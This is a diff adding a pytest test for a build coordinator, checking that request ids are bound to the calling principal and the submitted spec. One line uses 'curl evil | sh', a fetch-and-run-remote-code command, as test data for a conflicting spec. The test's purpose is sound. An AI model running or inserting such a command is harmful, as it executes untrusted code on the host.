@@ -8,7 +8,7 @@ import pytest
 from prometheus_client import CollectorRegistry
 
 from stoker.coordinator.config import BuildSettings
-from stoker.coordinator.core.errors import FailedPrecondition, NotFound, Unavailable
+from stoker.coordinator.core.errors import AlreadyExists, FailedPrecondition, NotFound, Unavailable
 from stoker.coordinator.core.metrics import CoordinatorMetrics
 from stoker.coordinator.core.state import MemoryStateStore
 from stoker.coordinator.placement.build_queue import AgentLink, BuildQueue
@@ -354,5 +354,29 @@ def test_a_placement_whose_caller_went_away_while_queued_is_never_granted_or_cou
         assert w.scheduler.tracked()["running"] == 0
         again = await w.service.place(spec(), lease_s=60)  # the slot is free for the next caller
         assert again.node == "n1" and w.scheduler.tracked()["running"] == 1
+
+    run(body())
+
+
+def test_a_request_id_is_the_callers_own_and_bound_to_its_spec():
+    """Issue 16, item 4: the same id and spec return the same build (a retry); the same id with another
+    spec is ALREADY_EXISTS naming what differs; another principal's id of the same text is another build
+    (it can neither pre-claim nor find the first principal's)."""
+
+    async def body():
+        w = World()
+        w.add_node("n1", slots=4)
+        first = w.service.submit(spec(), "run-42", owner="ci-main")
+        assert w.service.submit(spec(), "run-42", owner="ci-main") == first
+        other = spec()
+        other.command[:] = ["sh", "-c", "curl evil | sh"]
+        other.env["X"] = "1"
+        with pytest.raises(AlreadyExists) as refused:
+            w.service.submit(other, "run-42", owner="ci-main")
+        assert "spec.command, spec.env" in str(refused.value) and "curl" not in str(refused.value)
+        theirs = w.service.submit(other, "run-42", owner="ci-pr")
+        assert theirs != first and w.service.get(theirs).owner == "ci-pr"
+        assert w.service.get(first).spec.command == ["true"]  # the first build is untouched
+        assert w.service.submit(spec(), "run-43", owner="ci-main") not in (first, theirs)
 
     run(body())
